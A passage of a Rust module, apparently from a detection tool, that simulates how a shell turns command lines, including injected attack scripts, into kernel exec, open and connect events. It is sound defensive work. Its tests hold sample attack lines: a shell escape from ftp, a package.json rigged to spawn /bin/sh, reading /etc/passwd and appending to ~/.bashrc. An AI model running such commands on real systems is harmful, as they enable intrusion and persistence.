//! What a POSIX shell makes of a command line, as the kernel (and so the
//! collector) sees it: the programs it starts, which process each one's
//! parent is, and the files its redirections open.
//!
//! The attack injector (`eval`) and the simulator both turn command lines
//! into events through it, so an injected script looks like it would on a
//! real host:
//!
//! - every line of a multi-line script is its own command;
//! - builtins (`echo`, `cd`, `export`, `test`, `[` …) start no program, and
//!   their redirections are opened by the shell itself;
//! - `if`/`then`/`do` … keywords and comments start nothing;
//! - a redirection is opened by the forked child before it execs, so the
//!   open carries the shell's name;
//! - `sh -c '…'`, `sudo …`, `env …`, `nohup …`, `$(…)` and `` `…` `` start
//!   the programs they wrap, under the right parent.
//!
//! It does not expand variables or globs and does not run what a program
//! itself starts (`npm run`'s shell, a `find -exec`).

use outlier_common::json::JsonEvent;

use crate::sim::{addresses, files, reported_open};

/// One thing the kernel sees a command line cause.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Step {
    /// A program exec'd. Execs are numbered in order from 0.
    Exec {
        /// The exec that started its process; `None`: the shell the line
        /// runs in.
        parent: Option<usize>,
        /// The process whose program it replaces (`exec`, `env`, `nohup`,
        /// bash's `-c` of one command): it keeps that process's pid and
        /// parent. `Some(None)`: the line's shell.
        replaces: Option<Option<usize>>,
        /// Runs another program (`sh -c`, `sudo`, `env` …): the addresses and
        /// files its arguments name are that program's, not its own.
        wrapper: bool,
        /// Runs as root (`sudo`, `su`), whoever its parent runs as.
        as_root: bool,
        argv: Vec<String>,
    },
    /// A file opened by a redirection.
    Open {
        by: Opener,
        path: String,
        write: bool,
    },
}

/// Which process opens a redirection's file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Opener {
    /// The shell (exec number, `None` for the line's shell), for a builtin
    /// or a bare redirection.
    Shell(Option<usize>),
    /// The child forked for exec number `exec`, before it execs: its pid,
    /// the name of its shell (`shell`, as in `Shell`).
    Child { exec: usize, shell: Option<usize> },
}

/// The most programs one line may start (a runaway `$(…)` nest stays small).
const MAX_EXECS: usize = 64;
/// How deep `sh -c`, `sudo` and `$(…)` nest.
const MAX_DEPTH: usize = 6;

/// Builtins of dash and bash: they start no program.
const BUILTINS: &[&str] = &[
    ":", ".", "[", "[[", "alias", "bg", "break", "builtin", "cd", "command", "continue", "declare",
    "echo", "eval", "exit", "export", "false", "fg", "getopts", "hash", "history", "jobs", "kill",
    "let", "local", "popd", "printf", "pushd", "pwd", "read", "readonly", "return", "set", "shift",
    "source", "test", "times", "trap", "true", "type", "typeset", "ulimit", "umask", "unalias",
    "unset", "wait",
];

/// Words that open or close a compound command: they start no program.
const KEYWORDS: &[&str] = &[
    "if", "then", "elif", "else", "fi", "do", "done", "while", "until", "!", "{", "}", "time",
    "esac", "function",
];

/// Programs that exec their argument in the same process.
const SAME_PROCESS: &[&str] = &["env", "nohup", "nice", "stdbuf", "setsid", "ionice", "chrt"];

/// Programs that read commands from the terminal: the lines after them are
/// typed into them.
const INTERACTIVE: &[&str] = &[
    "ftp",
    "sftp",
    "gdb",
    "vi",
    "vim",
    "nvim",
    "rvim",
    "view",
    "less",
    "more",
    "man",
    "emacs",
    "joe",
    "nano",
    "pico",
    "ed",
    "jshell",
    "jjs",
    "asterisk",
    "ginsh",
    "mysql",
    "psql",
    "sqlite3",
    "irb",
    "telnet",
    "minicom",
    "opencode",
    "tclsh",
    "wish",
    "expect",
    "ghci",
    "lftp",
    "smbclient",
    "bconsole",
    "pry",
    "nsenter",
    "redis-cli",
    "mongo",
    "mongosh",
    "cqlsh",
    "gimp",
    "crash",
    "aria2c",
];

/// Programs that fork a child to run their argument.
const FORKING: &[&str] = &["sudo", "doas", "timeout", "xargs", "watch", "flock"];

/// Shells whose `-c` argument is itself a script.
const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "ash", "busybox"];

/// The steps a command line causes in a shell.
pub fn expand(line: &str) -> Vec<Step> {
    let mut out = Out::default();
    run_script(line, None, 0, &mut out);
    out.steps
}

#[derive(Default)]
struct Out {
    steps: Vec<Step>,
    execs: usize,
    /// Each exec's program name and step.
    progs: Vec<String>,
    at: Vec<usize>,
}

impl Out {
    fn exec(
        &mut self,
        parent: Option<usize>,
        replaces: Option<Option<usize>>,
        argv: Vec<String>,
    ) -> usize {
        self.progs
            .push(basename(argv.first().map_or("", |a| a.as_str())).to_string());
        self.at.push(self.steps.len());
        self.steps.push(Step::Exec {
            parent,
            replaces,
            wrapper: false,
            as_root: false,
            argv,
        });
        self.execs += 1;
        self.execs - 1
    }
    fn flag(&mut self, exec: usize, wraps: bool, root: bool) {
        if let Some(Step::Exec {
            wrapper, as_root, ..
        }) = self.at.get(exec).and_then(|&i| self.steps.get_mut(i))
        {
            *wrapper |= wraps;
            *as_root |= root;
        }
    }
    fn wraps(&mut self, exec: usize) {
        self.flag(exec, true, false);
    }
    fn as_root(&mut self, exec: usize) {
        self.flag(exec, false, true);
    }
    fn full(&self) -> bool {
        self.execs >= MAX_EXECS
    }
}

/// A word and the command substitutions inside it.
#[derive(Debug, Default, Clone)]
struct Word {
    text: String,
    subst: Vec<String>,
    /// Quoted somewhere (so `''` is a word, and `#` inside is not a comment).
    quoted: bool,
}

#[derive(Debug)]
enum Tok {
    Word(Word),
    /// `;`, `&&`, `||`, `|`, `&`, `(`, `)`: all end a simple command; the
    /// model runs every command of a list.
    Sep,
    /// The end of a line, which also ends a simple command.
    Newline,
    /// A redirection and its target (`None`: a descriptor dup or a here
    /// document).
    Redir {
        op: String,
        target: Option<Word>,
    },
}

fn lex(s: &str) -> Vec<Tok> {
    let c: Vec<char> = s.chars().collect();
    let mut toks = Vec::new();
    let mut w = Word::default();
    let mut in_word = false;
    let mut heredocs: Vec<(String, bool)> = Vec::new();
    let mut i = 0;
    // A line with a syntax error (`word(`, as in text typed into an
    // interactive program) runs nothing.
    let (mut line_start, mut bad) = (0, false);
    let end_word = |w: &mut Word, in_word: &mut bool, toks: &mut Vec<Tok>| {
        if *in_word {
            toks.push(Tok::Word(std::mem::take(w)));
            *in_word = false;
        }
    };
    while i < c.len() {
        let ch = c[i];
        match ch {
            '\n' => {
                end_word(&mut w, &mut in_word, &mut toks);
                if std::mem::take(&mut bad) {
                    toks.truncate(line_start);
                }
                toks.push(Tok::Newline);
                line_start = toks.len();
                i += 1;
                // Here documents' bodies are data, up to their delimiters.
                for (delim, strip) in heredocs.drain(..) {
                    while i < c.len() {
                        let eol = c[i..]
                            .iter()
                            .position(|&x| x == '\n')
                            .map_or(c.len(), |p| i + p);
                        let line: String = c[i..eol].iter().collect();
                        i = (eol + 1).min(c.len());
                        let line = if strip {
                            line.trim_start_matches('\t')
                        } else {
                            &line
                        };
                        if line.trim_end() == delim {
                            break;
                        }
                    }
                }
            }
            ' ' | '\t' | '\r' => {
                end_word(&mut w, &mut in_word, &mut toks);
                i += 1;
            }
            '#' if !in_word => {
                while i < c.len() && c[i] != '\n' {
                    i += 1;
                }
            }
            '\\' => {
                if c.get(i + 1) == Some(&'\n') {
                    i += 2;
                } else if let Some(&n) = c.get(i + 1) {
                    w.text.push(n);
                    in_word = true;
                    i += 2;
                } else {
                    i += 1;
                }
            }
            '\'' => {
                let close = c[i + 1..]
                    .iter()
                    .position(|&x| x == '\'')
                    .map_or(c.len(), |p| i + 1 + p);
                w.text.extend(&c[i + 1..close]);
                w.quoted = true;
                in_word = true;
                i = close + 1;
            }
            '"' => {
                i += 1;
                in_word = true;
                w.quoted = true;
                while i < c.len() && c[i] != '"' {
                    if c[i] == '\\' && i + 1 < c.len() && matches!(c[i + 1], '"' | '\\' | '$' | '`')
                    {
                        w.text.push(c[i + 1]);
                        i += 2;
                    } else if c[i] == '$' || c[i] == '`' {
                        i = substitution(&c, i, &mut w);
                    } else {
                        w.text.push(c[i]);
                        i += 1;
                    }
                }
                i += 1;
            }
            '$' | '`' => {
                in_word = true;
                i = substitution(&c, i, &mut w);
            }
            ';' | '(' | ')' => {
                bad |= ch == '(' && in_word && !is_assignment(&w.text);
                end_word(&mut w, &mut in_word, &mut toks);
                toks.push(Tok::Sep);
                i += 1;
            }
            '|' => {
                end_word(&mut w, &mut in_word, &mut toks);
                toks.push(Tok::Sep);
                i += if matches!(c.get(i + 1), Some('|' | '&')) {
                    2
                } else {
                    1
                };
            }
            '&' if c.get(i + 1) == Some(&'>') => {
                end_word(&mut w, &mut in_word, &mut toks);
                i = redirection(&c, i, &mut toks, &mut heredocs);
            }
            '&' => {
                end_word(&mut w, &mut in_word, &mut toks);
                toks.push(Tok::Sep);
                i += if c.get(i + 1) == Some(&'&') { 2 } else { 1 };
            }
            '<' | '>' => {
                // `2>`: the digits were a descriptor, not a word.
                if in_word
                    && !w.quoted
                    && w.subst.is_empty()
                    && w.text.chars().all(|d| d.is_ascii_digit())
                {
                    w = Word::default();
                    in_word = false;
                }
                end_word(&mut w, &mut in_word, &mut toks);
                i = redirection(&c, i, &mut toks, &mut heredocs);
            }
            _ => {
                w.text.push(ch);
                in_word = true;
                i += 1;
            }
        }
    }
    end_word(&mut w, &mut in_word, &mut toks);
    if bad {
        toks.truncate(line_start);
    }
    toks
}

/// Reads a `$(…)`, `` `…` ``, `$((…))` or `${…}` at `i` into `w`; returns
/// the index after it. The text is kept as written.
fn substitution(c: &[char], i: usize, w: &mut Word) -> usize {
    if c[i] == '`' {
        let close = c[i + 1..]
            .iter()
            .position(|&x| x == '`')
            .map_or(c.len(), |p| i + 1 + p);
        let inner: String = c[i + 1..close].iter().collect();
        w.text.push('`');
        w.text.push_str(&inner);
        w.text.push('`');
        w.subst.push(inner);
        return close + 1;
    }
    let (open, close) = match c.get(i + 1) {
        Some('(') => ('(', ')'),
        Some('{') => ('{', '}'),
        _ => {
            w.text.push('$');
            return i + 1;
        }
    };
    let arithmetic = open == '(' && c.get(i + 2) == Some(&'(');
    let mut depth = 0usize;
    let mut j = i + 1;
    let (mut sq, mut dq) = (false, false);
    while j < c.len() {
        match c[j] {
            '\'' if !dq => sq = !sq,
            '"' if !sq => dq = !dq,
            '\\' if !sq => j += 1,
            x if x == open && !sq && !dq => depth += 1,
            x if x == close && !sq && !dq => {
                depth -= 1;
                if depth == 0 {
                    break;
                }
            }
            _ => {}
        }
        j += 1;
    }
    // Unterminated: the rest of the line.
    let j = j.min(c.len());
    let text: String = c[i..(j + 1).min(c.len())].iter().collect();
    if open == '(' && !arithmetic {
        w.subst.push(c[(i + 2).min(j)..j].iter().collect());
    }
    w.text.push_str(&text);
    j + 1
}

/// Reads a redirection operator at `i` and its target; returns the index
/// after them.
fn redirection(
    c: &[char],
    mut i: usize,
    toks: &mut Vec<Tok>,
    heredocs: &mut Vec<(String, bool)>,
) -> usize {
    let mut op = String::new();
    while i < c.len() && matches!(c[i], '<' | '>' | '&' | '|' | '-') && op.len() < 3 {
        // `-` only in `<<-` and `>&-`.
        if c[i] == '-' && !(op == "<<" || op.ends_with('&')) {
            break;
        }
        op.push(c[i]);
        i += 1;
    }
    // `>&2`, `2>&1`, `<&0`, `>&-`: a descriptor dup, no file.
    if op.ends_with('&') || op.ends_with("&-") {
        let digits = c[i..].iter().take_while(|d| d.is_ascii_digit()).count();
        if digits > 0 || op.ends_with('-') {
            toks.push(Tok::Redir { op, target: None });
            return i + digits;
        }
    }
    while i < c.len() && matches!(c[i], ' ' | '\t') {
        i += 1;
    }
    // The target is the next word.
    let mut sub = lex_one_word(&c[i..]);
    i += sub.1;
    if op.starts_with("<<") && op != "<<<" {
        heredocs.push((sub.0.text.clone(), op == "<<-"));
        toks.push(Tok::Redir { op, target: None });
    } else {
        sub.0.text = sub.0.text.trim().to_string();
        toks.push(Tok::Redir {
            op,
            target: Some(sub.0),
        });
    }
    i
}

/// The first word of `c` and how many characters it took.
fn lex_one_word(c: &[char]) -> (Word, usize) {
    let mut end = 0;
    let (mut sq, mut dq) = (false, false);
    while end < c.len() {
        match c[end] {
            '\'' if !dq => sq = !sq,
            '"' if !sq => dq = !dq,
            '\\' if !sq => end += 1,
            x if !sq
                && !dq
                && (x.is_whitespace() || matches!(x, ';' | '|' | '&' | '<' | '>' | '(' | ')')) =>
            {
                break;
            }
            _ => {}
        }
        end += 1;
    }
    let end = end.min(c.len());
    let text: String = c[..end].iter().collect();
    let word = match lex(&text).into_iter().next() {
        Some(Tok::Word(w)) => w,
        _ => Word::default(),
    };
    (word, end)
}

/// Runs a script in the shell `shell` (an exec number; `None`: the line's).
fn run_script(script: &str, shell: Option<usize>, depth: usize, out: &mut Out) {
    if depth > MAX_DEPTH {
        return;
    }
    let mut words: Vec<Word> = Vec::new();
    let mut redirs: Vec<(String, Option<Word>)> = Vec::new();
    let mut in_case = false;
    let mut in_for = false;
    // The last program started on this line, and the interactive program
    // later lines are typed into.
    let (mut line_last, mut typed_into, mut eol): (Option<usize>, Option<usize>, bool) =
        (None, None, false);
    let toks = lex(script);
    let n = toks.len();
    for (k, tok) in toks.into_iter().enumerate() {
        let end = match tok {
            Tok::Word(w) => {
                words.push(w);
                k + 1 == n
            }
            Tok::Redir { op, target } => {
                redirs.push((op, target));
                k + 1 == n
            }
            Tok::Sep => true,
            Tok::Newline => {
                eol = true;
                true
            }
        };
        if !end {
            continue;
        }
        let mut ws = std::mem::take(&mut words);
        let rs = std::mem::take(&mut redirs);
        if out.full() {
            return;
        }
        let before = out.execs;
        // What follows an interactive program's line is typed into it, not
        // into the shell; only its shell escape (`!cmd`, `:!cmd`) runs
        // something, in a shell of its own.
        if let Some(program) = typed_into {
            if let Some(cmd) = shell_escape(&ws) {
                let sh = out.exec(
                    Some(program),
                    None,
                    vec!["sh".into(), "-c".into(), cmd.clone()],
                );
                out.wraps(sh);
                run_script(&cmd, Some(sh), depth + 1, out);
            }
            continue;
        }
        // Keywords start nothing (`then for …`, `do case …`).
        let lead = ws
            .iter()
            .take_while(|w| !w.quoted && KEYWORDS.contains(&w.text.as_str()))
            .count();
        ws.drain(..lead);
        // `case … esac` and `for … in …` headers run nothing themselves.
        if in_case {
            in_case = !ws.iter().any(|w| !w.quoted && w.text == "esac");
            continue;
        }
        if ws.first().is_some_and(|w| !w.quoted && w.text == "case") {
            in_case = !ws.iter().any(|w| !w.quoted && w.text == "esac");
            continue;
        }
        if in_for
            || ws
                .first()
                .is_some_and(|w| !w.quoted && matches!(w.text.as_str(), "for" | "select"))
        {
            // The header ends at `do`, which may follow on the same line.
            in_for = true;
            if let Some(p) = ws.iter().position(|w| !w.quoted && w.text == "do") {
                in_for = false;
                if simple(ws[p + 1..].to_vec(), rs, shell, depth, out) == Ran::Replaced {
                    return;
                }
            } else {
                for w in &ws {
                    for s in &w.subst {
                        run_script(s, shell, depth + 1, out);
                    }
                }
            }
            continue;
        }
        if simple(ws, rs, shell, depth, out) == Ran::Replaced {
            // `exec prog`: the shell is gone; nothing after it runs.
            return;
        }
        if out.execs > before {
            line_last = Some(out.execs - 1);
        }
        if std::mem::take(&mut eol) {
            typed_into = line_last
                .take()
                .filter(|&e| INTERACTIVE.contains(&out.progs[e].as_str()) && out.execs == e + 1);
        }
    }
}

/// The command of a shell escape typed into an interactive program.
fn shell_escape(ws: &[Word]) -> Option<String> {
    let first = ws.first()?;
    let t = first.text.trim_start_matches(':').trim_start_matches("^K");
    let rest = t.strip_prefix('!')?;
    let mut cmd: Vec<&str> = vec![rest];
    cmd.extend(ws[1..].iter().map(|w| w.text.as_str()));
    let cmd = cmd.join(" ").trim().to_string();
    (!cmd.is_empty()).then_some(cmd)
}

/// What a simple command did to its shell.
#[derive(Debug, PartialEq, Eq)]
enum Ran {
    /// Ran (or started nothing); the shell goes on.
    Done,
    /// `exec prog`: the shell's process became prog.
    Replaced,
}

/// One simple command in `shell`.
fn simple(
    ws: Vec<Word>,
    rs: Vec<(String, Option<Word>)>,
    shell: Option<usize>,
    depth: usize,
    out: &mut Out,
) -> Ran {
    command(ws, rs, shell, false, depth, out)
}

/// A simple command in `shell`; `replace`: it execs in the shell's own
/// process (`exec prog`, bash's `-c` with one command), not in a child.
fn command(
    mut ws: Vec<Word>,
    mut rs: Vec<(String, Option<Word>)>,
    shell: Option<usize>,
    replace: bool,
    depth: usize,
    out: &mut Out,
) -> Ran {
    if depth > MAX_DEPTH || out.full() {
        return Ran::Done;
    }
    // Command substitutions run first, in subshells of this shell; the
    // command's arguments carry their output, which is not modelled.
    for w in ws
        .iter_mut()
        .chain(rs.iter_mut().filter_map(|(_, t)| t.as_mut()))
    {
        for s in &w.subst {
            run_script(s, shell, depth + 1, out);
        }
        for s in &w.subst {
            w.text = w
                .text
                .replacen(&format!("$({s})"), "", 1)
                .replacen(&format!("`{s}`"), "", 1);
        }
    }
    // Keywords and assignments before the command.
    let lead = ws
        .iter()
        .take_while(|w| {
            (!w.quoted && KEYWORDS.contains(&w.text.as_str())) || is_assignment(&w.text)
        })
        .count();
    ws.drain(..lead);
    let opens = |by: Opener, out: &mut Out| {
        for (op, t) in &rs {
            let Some(t) = t else { continue };
            if op == "<<<" || t.text.is_empty() {
                continue;
            }
            let write = op.contains('>');
            out.steps.push(Step::Open {
                by,
                path: t.text.clone(),
                write,
            });
        }
    };
    // `!cmd` typed at a shell prompt is not a command (`!` alone negates).
    if ws
        .first()
        .is_some_and(|w| !w.quoted && w.text.len() > 1 && w.text.starts_with('!'))
    {
        return Ran::Done;
    }
    let Some(first) = ws.first() else {
        opens(Opener::Shell(shell), out);
        return Ran::Done;
    };
    // An unexpanded variable as the program: which program is unknown.
    if first.text.starts_with('$') || first.text.is_empty() {
        return Ran::Done;
    }
    let prog = basename(&first.text).to_string();
    if prog == "exec" && !first.text.contains('/') {
        // `exec >file`: the shell's own descriptors.
        opens(Opener::Shell(shell), out);
        if ws.len() == 1 {
            return Ran::Done;
        }
        command(ws[1..].to_vec(), Vec::new(), shell, true, depth + 1, out);
        return Ran::Replaced;
    }
    if BUILTINS.contains(&prog.as_str()) && !first.text.contains('/') {
        opens(Opener::Shell(shell), out);
        match prog.as_str() {
            "eval" => {
                let s: Vec<&str> = ws[1..].iter().map(|w| w.text.as_str()).collect();
                run_script(&s.join(" "), shell, depth + 1, out);
            }
            // `command ls`: runs ls.
            "command" | "builtin" if ws.len() > 1 && !ws[1].text.starts_with('-') => {
                return command(ws[1..].to_vec(), Vec::new(), shell, replace, depth + 1, out);
            }
            _ => {}
        }
        return Ran::Done;
    }
    let argv: Vec<String> = ws.iter().map(|w| w.text.clone()).collect();
    let me = if replace {
        // No fork: the shell's process opens the redirections, then execs.
        opens(Opener::Shell(shell), out);
        out.exec(shell, Some(shell), argv.clone())
    } else {
        // The child is forked before it execs: its opens come first.
        opens(
            Opener::Child {
                exec: out.execs,
                shell,
            },
            out,
        );
        out.exec(shell, None, argv.clone())
    };
    wrapped(&argv, me, depth, out);
    Ran::Done
}

/// What a program that runs another one starts: `sh -c`'s script, `sudo`'s
/// command, `env`'s program.
fn wrapped(argv: &[String], me: usize, depth: usize, out: &mut Out) {
    if depth > MAX_DEPTH || out.full() {
        return;
    }
    let mut argv = argv;
    let prog = basename(&argv[0]);
    if prog == "busybox" && argv.len() > 1 {
        argv = &argv[1..];
    }
    let prog = basename(&argv[0]);
    if SHELLS.contains(&prog) {
        let script = argv
            .iter()
            .position(|a| {
                a == "-c"
                    || (a.starts_with('-')
                        && !a.starts_with("--")
                        && a.ends_with('c')
                        && a.len() <= 4)
            })
            .and_then(|p| argv.get(p + 1));
        if let Some(script) = script {
            out.wraps(me);
            // bash (not dash) runs a `-c` of one simple command in its own
            // process.
            match one_command(script).filter(|_| prog != "sh" && prog != "dash" && prog != "ash") {
                Some((ws, rs)) => {
                    command(ws, rs, Some(me), true, depth + 1, out);
                }
                None => run_script(script, Some(me), depth + 1, out),
            }
        }
        return;
    }
    // `su [-] [user] -c cmd`: su forks the user's shell to run it.
    if prog == "su" {
        if let Some(p) = argv.iter().position(|a| a == "-c" || a == "--command")
            && let Some(cmd) = argv.get(p + 1)
        {
            out.wraps(me);
            let user = argv[1..p]
                .iter()
                .find(|a| !a.starts_with('-'))
                .map_or("root", |a| a.as_str());
            let sh = out.exec(
                Some(me),
                None,
                vec!["bash".into(), "-c".into(), cmd.clone()],
            );
            if user == "root" {
                out.as_root(sh);
            }
            wrapped(
                &["bash".into(), "-c".into(), cmd.clone()],
                sh,
                depth + 1,
                out,
            );
        }
        return;
    }
    // `watch cmd …` and `flock f -c cmd` run their command through `sh -c`.
    let through_sh = match prog {
        "watch" if !argv.iter().any(|a| a == "-x" || a == "--exec") => {
            Some(inner_command(prog, &argv[1..]).join(" "))
        }
        "flock" => argv
            .iter()
            .position(|a| a == "-c" || a == "--command")
            .and_then(|p| argv.get(p + 1).cloned()),
        _ => None,
    };
    if let Some(cmd) = through_sh {
        if !cmd.is_empty() {
            out.wraps(me);
            let sh = out.exec(Some(me), None, vec!["sh".into(), "-c".into(), cmd.clone()]);
            out.wraps(sh);
            run_script(&cmd, Some(sh), depth + 1, out);
        }
        return;
    }
    let same = SAME_PROCESS.contains(&prog);
    if !same && !FORKING.contains(&prog) {
        return;
    }
    let inner = inner_command(prog, &argv[1..]);
    if inner.is_empty() {
        return;
    }
    out.wraps(me);
    let id = if same {
        out.exec(None, Some(Some(me)), inner.clone())
    } else {
        out.exec(Some(me), None, inner.clone())
    };
    let user = argv
        .iter()
        .position(|a| a == "-u")
        .and_then(|p| argv.get(p + 1))
        .map_or("root", |u| u.as_str());
    if matches!(prog, "sudo" | "doas") && (user == "root" || user == "0") {
        out.as_root(id);
    }
    wrapped(&inner, id, depth + 1, out);
}

/// The words and redirections of a script that is one simple command.
type Simple = (Vec<Word>, Vec<(String, Option<Word>)>);

fn one_command(script: &str) -> Option<Simple> {
    let mut ws = Vec::new();
    let mut rs = Vec::new();
    for t in lex(script) {
        match t {
            Tok::Word(w) if w.subst.is_empty() => ws.push(w),
            Tok::Redir { op, target } => rs.push((op, target)),
            _ => return None,
        }
    }
    let keyword = ws.first().is_some_and(|w| {
        !w.quoted && (KEYWORDS.contains(&w.text.as_str()) || w.text == "for" || w.text == "case")
    });
    (!ws.is_empty() && !keyword).then_some((ws, rs))
}

/// The command a wrapper runs: its arguments after its own options.
fn inner_command(prog: &str, args: &[String]) -> Vec<String> {
    // Options that take a value.
    let valued: &[&str] = match prog {
        "sudo" | "doas" => &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U"],
        "nice" => &["-n"],
        "ionice" => &["-c", "-n", "-p"],
        "timeout" => &["-s", "-k", "--signal", "--kill-after"],
        "xargs" => &["-I", "-n", "-P", "-L", "-d", "-a", "-s", "-E"],
        "stdbuf" => &["-i", "-o", "-e"],
        "env" => &["-u", "-C", "-S"],
        "watch" => &["-n", "-d"],
        _ => &[],
    };
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        if a == "--" {
            i += 1;
            break;
        }
        if a.starts_with('-') && a.len() > 1 {
            i += if valued.contains(&a.as_str()) { 2 } else { 1 };
            continue;
        }
        if prog == "env" && is_assignment(a) {
            i += 1;
            continue;
        }
        break;
    }
    // Positional arguments before the command.
    let skip = match prog {
        "timeout" | "flock" | "chrt" => 1,
        _ => 0,
    };
    args.iter().skip(i + skip).cloned().collect()
}

fn is_assignment(w: &str) -> bool {
    match w.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name.chars().enumerate().all(|(i, c)| {
                    c == '_' || c.is_ascii_alphabetic() || (i > 0 && c.is_ascii_digit())
                })
        }
        None => false,
    }
}

fn basename(p: &str) -> &str {
    p.rsplit('/').next().unwrap_or(p)
}

/// The process a line runs in: a login shell, a job runner's shell, or the
/// `sh -c` a web server or cron started.
#[derive(Debug, Clone)]
pub struct Shell<'a> {
    pub pid: u32,
    pub comm: &'a str,
    pub ppid: u32,
    pub parent_comm: &'a str,
    pub uid: u32,
    pub cwd: &'a str,
    /// What `~` is.
    pub home: &'a str,
}

/// The exec, connect and open events a command line run in `shell` causes,
/// as the collector reports them (kind, pids, names, argv, paths, flags,
/// addresses); the caller sets the org, workload, host and times. `new_pid`
/// gives each new process its pid.
pub fn events(line: &str, shell: &Shell<'_>, mut new_pid: impl FnMut() -> u32) -> Vec<JsonEvent> {
    #[derive(Clone)]
    struct P {
        pid: u32,
        comm: String,
        exe: String,
        ppid: u32,
        parent_comm: String,
        uid: u32,
    }
    // procs[0]: the line's shell; procs[n + 1]: exec number n's process.
    let mut procs: Vec<P> = vec![P {
        pid: shell.pid,
        comm: shell.comm.to_string(),
        exe: format!("/usr/bin/{}", shell.comm),
        ppid: shell.ppid,
        parent_comm: shell.parent_comm.to_string(),
        uid: shell.uid,
    }];
    let ix = |s: Option<usize>| s.map_or(0, |j| j + 1);
    // Pids handed out to children that opened a redirection before their exec.
    let mut early: std::collections::HashMap<usize, u32> = Default::default();
    let mut out = Vec::new();
    let base = |kind: &str, p: &P| JsonEvent {
        kind: Some(kind.into()),
        pid: Some(p.pid),
        ppid: Some(p.ppid),
        uid: Some(p.uid),
        gid: Some(p.uid),
        comm: Some(p.comm.clone()),
        parent_comm: Some(p.parent_comm.clone()),
        exe: Some(p.exe.clone()),
        ..JsonEvent::default()
    };
    let connects = |p: &P, words: &[String], out: &mut Vec<JsonEvent>| {
        for (ip, port) in addresses(words) {
            out.push(JsonEvent {
                remote_ip: Some(ip),
                remote_port: Some(port),
                protocol: Some("tcp".into()),
                ..base("connect", p)
            });
        }
    };
    let open = |p: &P, path: String, flags: u32, out: &mut Vec<JsonEvent>| {
        out.push(JsonEvent {
            path: Some(path),
            flags: Some(flags),
            ..base("open", p)
        });
    };
    for step in expand(line) {
        match step {
            Step::Exec {
                parent,
                replaces,
                wrapper,
                as_root,
                argv,
            } => {
                let prog = &argv[0];
                let name = basename(prog);
                let comm: String = name.chars().take(15).collect();
                let exe = if prog.starts_with('/') {
                    prog.clone()
                } else if prog.contains('/') {
                    format!(
                        "{}/{}",
                        shell.cwd.trim_end_matches('/'),
                        prog.trim_start_matches("./")
                    )
                } else {
                    format!("/usr/bin/{name}")
                };
                let me = procs.len() - 1;
                let mut p = match replaces {
                    Some(r) => P {
                        comm,
                        exe,
                        ..procs[ix(r)].clone()
                    },
                    None => {
                        let up = &procs[ix(parent)];
                        P {
                            pid: early.remove(&me).unwrap_or_else(&mut new_pid),
                            comm,
                            exe,
                            ppid: up.pid,
                            parent_comm: up.comm.clone(),
                            uid: up.uid,
                        }
                    }
                };
                if as_root {
                    p.uid = 0;
                }
                out.push(JsonEvent {
                    argv: Some(argv.clone()),
                    cwd: Some(shell.cwd.to_string()),
                    ..base("exec", &p)
                });
                if !wrapper {
                    connects(&p, &argv, &mut out);
                    for (path, write) in files(&argv, shell.home) {
                        open(&p, path, if write { O_TRUNC_WRITE } else { 0 }, &mut out);
                    }
                }
                if let Some(r) = replaces {
                    procs[ix(r)] = p.clone();
                }
                procs.push(p);
            }
            Step::Open { by, path, write } => {
                let p = match by {
                    Opener::Shell(s) => procs[ix(s)].clone(),
                    Opener::Child { exec, shell: s } => {
                        let up = &procs[ix(s)];
                        let pid = *early.entry(exec).or_insert_with(&mut new_pid);
                        P {
                            pid,
                            ppid: up.pid,
                            parent_comm: up.comm.clone(),
                            ..up.clone()
                        }
                    }
                };
                if path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/") {
                    connects(&p, &[path], &mut out);
                    continue;
                }
                let path = match path.strip_prefix("~/") {
                    Some(rest) => format!("{}/{rest}", shell.home.trim_end_matches('/')),
                    None => path,
                };
                if reported_open(&path, write) {
                    open(&p, path, if write { O_TRUNC_WRITE } else { 0 }, &mut out);
                }
            }
        }
    }
    out
}

/// `O_WRONLY | O_CREAT | O_TRUNC`, as a shell's `>` opens.
const O_TRUNC_WRITE: u32 = 0o1101;

#[cfg(test)]
mod tests {
    use super::*;

    fn execs(line: &str) -> Vec<(Option<usize>, String)> {
        expand(line)
            .into_iter()
            .filter_map(|s| match s {
                Step::Exec { parent, argv, .. } => Some((parent, argv.join(" "))),
                _ => None,
            })
            .collect()
    }

    fn opens(line: &str) -> Vec<(Opener, String, bool)> {
        expand(line)
            .into_iter()
            .filter_map(|s| match s {
                Step::Open { by, path, write } => Some((by, path, write)),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn every_line_and_list_member_is_a_command_and_builtins_start_nothing() {
        let script = "echo '{\"scripts\": {\"x\": \"/bin/sh\"}}' >package.json\nnpm -C . run x";
        assert_eq!(execs(script), [(None, "npm -C . run x".to_string())]);
        assert_eq!(
            opens(script),
            [(Opener::Shell(None), "package.json".to_string(), true)]
        );
        assert_eq!(
            execs("cd /tmp && export X=1; ls -la | grep x || true"),
            [(None, "ls -la".to_string()), (None, "grep x".to_string())]
        );
        // Keywords, comments, assignments and line continuations.
        assert_eq!(
            execs(
                "if [ \"$(uname)\" = 'FreeBSD' ]; then service -e; else systemctl \\\n --type=service; fi # done"
            ),
            [
                (None, "uname".to_string()),
                (None, "service -e".to_string()),
                (None, "systemctl --type=service".to_string())
            ]
        );
        assert_eq!(execs("A=1 B=2 make all"), [(None, "make all".to_string())]);
        // Text typed into an interactive program is not the shell's; its
        // shell escape starts a shell under it.
        assert_eq!(
            execs(
                "id\nJava.type('java.lang.Runtime').getRuntime().exec('id')\nftp\nget /x y\n!/bin/sh"
            ),
            [
                (None, "id".to_string()),
                (None, "ftp".to_string()),
                (Some(1), "sh -c /bin/sh".to_string()),
                (Some(2), "/bin/sh".to_string()),
            ]
        );
        assert_eq!(execs("X=$(id -u)"), [(None, "id -u".to_string())]);
    }

    #[test]
    fn redirections_are_opened_by_the_forked_child_or_the_shell() {
        assert_eq!(
            opens("cat /etc/passwd > /tmp/p 2>/dev/null; echo x >> ~/.bashrc; sort < in.txt 2>&1"),
            [
                (
                    Opener::Child {
                        exec: 0,
                        shell: None
                    },
                    "/tmp/p".to_string(),
                    true
                ),
                (
                    Opener::Child {
